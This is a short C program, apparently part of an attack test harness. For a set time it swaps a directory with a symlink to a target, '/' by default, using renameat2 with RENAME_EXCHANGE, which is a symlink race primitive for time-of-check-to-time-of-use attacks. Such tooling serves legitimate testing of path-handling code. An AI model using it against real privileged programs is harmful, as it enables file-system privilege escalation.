/* swap-folder MS [TARGET]: `d` is a folder, then a link to TARGET (default /), then a folder…, as fast as it can. */
#include "attack.h"
int main(int argc, char **argv) {
  double end = wall_ms() + number(argv, 1, 300);
  long swaps = 0;
  mkdir("d", 0755);
  (void)!symlink(argc > 2 ? argv[2] : "/", "l");
  while (wall_ms() < end) {
    syscall(SYS_renameat2, AT_FDCWD, "d", AT_FDCWD, "l", 2 /* RENAME_EXCHANGE */);
    swaps++;
  }
  printf("%ld swaps\n", swaps);
  return done();
}
